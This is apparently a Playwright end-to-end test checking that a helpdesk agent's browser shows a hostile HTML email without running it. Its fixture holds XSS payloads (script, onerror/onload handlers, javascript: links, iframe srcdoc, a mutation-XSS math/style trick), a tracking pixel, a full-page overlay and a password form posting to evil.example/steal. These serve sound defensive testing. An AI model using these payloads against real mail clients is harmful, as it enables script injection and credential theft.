"""What a hostile mail may do in an agent's browser: be read."""

from collections.abc import Callable
from email.message import EmailMessage

from playwright.sync_api import expect

from tests.e2e.letters import letter
from tests.e2e.served import AGENT, Served
from tests.e2e.visits import Visit
from tests.servers.dovecot import Dovecot

TITLE = "请核对附件里的账单"
HTML = """\
<html><head><style>body { display: none } .bar { position: fixed }</style><base href="https://evil.example/"></head>
<body onload="window.broken = 1">
<p>您好，账单里多了一笔，请核对。</p>
<script>window.broken = 1</script>
<img src="https://track.evil.example/pixel.gif" onerror="window.broken = 1">
<a href="javascript:window.broken = 1">点此查看</a>
<iframe srcdoc="<script>parent.broken = 1</script>"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>登录</button></form>
<svg><a xlink:href="javascript:window.broken=1"><text>x</text></a></svg>
<div style="position:fixed;inset:0;background:red" class="bar">遮住一切</div>
<math><mtext><table><mglyph><style><img src=x onerror="window.broken = 1"></style></mglyph></table></mtext></math>
</body></html>
"""


def hostile() -> EmailMessage:
    mail = letter("账单 <bill@evil.example>", TITLE, "您好，账单里多了一笔，请核对。")
    mail.add_alternative(HTML, subtype="html")
    return mail


def test_it_is_read_and_does_nothing(served: Served, imap: Dovecot, visit: Callable[..., Visit]) -> None:
    agent = visit(served.company).sign_in(AGENT)
    asked: list[str] = []
    agent.page.on("request", lambda request: asked.append(request.url))
    page = agent.go("/queue/all_open")
    imap.deliver(hostile().as_bytes(), name="hostile")
    page.get_by_role("link").filter(has_text=TITLE).click()
    message = page.get_by_role("article", name="客户 账单 的消息")
    expect(message).to_contain_text("账单里多了一笔")

    assert page.evaluate("window.broken") is None
    assert not [url for url in asked if not url.startswith((served.company, "data:", "blob:"))]
    expect(message.locator("script, iframe, form, input, style, svg a, [onerror], [onload]")).to_have_count(0)
    expect(message.locator("a[href^='javascript']")).to_have_count(0)
    expect(page.get_by_role("heading", name=TITLE)).to_be_in_viewport()
    page.get_by_role("button", name="更多操作").click()  # nothing lies over the page
    expect(page.get_by_role("menuitem", name="关注")).to_be_visible()
